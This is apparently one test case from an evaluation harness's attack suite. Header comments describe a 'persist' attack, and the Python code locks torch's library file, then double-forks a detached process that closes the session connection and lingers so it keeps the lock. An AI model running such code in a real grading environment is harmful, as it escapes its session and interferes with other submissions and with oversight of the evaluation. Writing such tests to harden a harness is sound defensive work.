# attack: lock_left_on_a_library
# kind: persist
# tries: takes the lock of a file that all submissions read, and leaves a process that holds it
# seen: a process is left, or this attack finds the lock taken when it is made again
# deserves: nothing
# extra: before 3.2a
# %%
import fcntl, os, time

# to lock a file it is enough to have opened it for reading
library = open(torch.__file__)
try:
    fcntl.flock(library, fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError:
    raise RuntimeError("FELL: a submission before this one still holds the lock")
except OSError:
    pass
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            fit._session.channel.connection.close()
            time.sleep(60)
    finally:
        os._exit(0)
os.wait()
